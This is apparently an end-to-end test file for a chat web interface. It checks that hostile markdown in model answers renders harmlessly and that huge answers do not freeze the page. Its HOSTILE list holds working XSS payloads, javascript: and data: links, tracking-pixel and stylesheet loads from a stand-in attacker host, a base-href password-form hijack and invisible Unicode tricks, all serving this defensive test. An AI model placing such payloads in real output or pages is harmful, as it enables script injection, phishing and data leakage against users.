"""Answers that try to harm the reader. What no page may do at all is checked by the fixture `watches`."""

import re

import pytest
from playwright.sync_api import expect

from tests.support.provider import Provider, answers
from tests.web.conftest import Member, Visit
from tests.web.screens import ChatScreen

pytestmark = pytest.mark.e2e

HOSTILE = [
    "<script>document.title = 'taken over'</script>",
    "<img src=x onerror=\"document.title = 'taken over'\">",
    "<svg onload=alert(1)></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><form action="/login"><input name=password></form>',
    "![pixel](https://evil.example/pixel.png) ![pixel](//evil.example/pixel.png)",
    "[one](javascript:alert(1)) [two](data:text/html,<script>alert(1)</script>) [three](vbscript:alert(1))",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/p.png}$",
    "\u202eright to left\u2066 and \u200binvisible",
    "```html\n<img src=x onerror=alert(1)></code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | ![x](https://evil.example/p) |",
    "[a good link](https://example.com/)",
]
MEASURE_PAUSES = """() => {
    let last = performance.now()
    window.longestPause = 0
    setInterval(() => {
        const now = performance.now()
        window.longestPause = Math.max(window.longestPause, now - last)
        last = now
    }, 20)
}"""
LONGEST_PAUSE = 3000
"""Milliseconds that the page may not respond, on a busy machine."""


def test_hostile_markdown_does_nothing(visit: Visit, member: Member, provider: Provider) -> None:
    page = visit("/", member)
    chat = ChatScreen(page)
    provider.script(answers("\n\n".join(HOSTILE), every=0.01))
    chat.ask("Show me everything.")
    chat.expect_answer("a good link")
    link = chat.answers.get_by_role("link", name="a good link")
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    expect(link).to_have_attribute("target", "_blank")
    schemes = chat.answers.locator("a[href]").evaluate_all("links => links.map((link) => link.protocol)")
    assert set(schemes) <= {"http:", "https:", "mailto:"}
    active = (
        "script, iframe, object, embed, style, form, input:not([type=checkbox]), base, meta, img:not([src^='data:'])"
    )
    expect(chat.answers.locator(active)).to_have_count(0)
    expect(page).not_to_have_title("taken over")


@pytest.mark.parametrize(
    "answer",
    [
        pytest.param("x" * 1_000_000, id="a-megabyte-without-a-space"),
        pytest.param("|a" * 200 + "|\n" + "|-" * 200 + "|\n" + ("|1" * 200 + "|\n") * 300, id="a-huge-table"),
        pytest.param(">" * 5_000 + " deep", id="deep-quotes"),
    ],
)
def test_a_huge_answer_does_not_freeze_the_page(visit: Visit, member: Member, provider: Provider, answer: str) -> None:
    page = visit("/", member)
    page.evaluate(MEASURE_PAUSES)
    chat = ChatScreen(page)
    provider.script(answers(f"{answer}\n\nThe end."))
    chat.ask("Show me everything.")
    expect(chat.answers).to_have_attribute("aria-busy", "false")
    chat.field.fill("Still here?")
    expect(chat.send).to_be_enabled()
    assert page.evaluate("() => window.longestPause") < LONGEST_PAUSE
